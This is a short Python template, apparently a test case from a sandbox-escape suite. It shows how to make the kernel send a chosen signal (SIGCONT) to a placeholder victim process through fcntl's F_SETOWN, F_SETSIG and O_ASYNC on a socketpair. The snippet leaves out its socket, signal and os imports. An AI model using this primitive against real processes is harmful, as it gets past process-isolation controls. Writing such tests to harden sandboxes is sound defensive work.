# naive: assert
# A descriptor's owner is sent a signal of our choice when it becomes readable.
import fcntl


def exploit(X):
    a, b = socket.socketpair()
    fcntl.fcntl(a, fcntl.F_SETOWN, @VICTIM@)
    fcntl.fcntl(a, 10, int(signal.SIGCONT))  # F_SETSIG
    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    b.send(b"x")
    return True
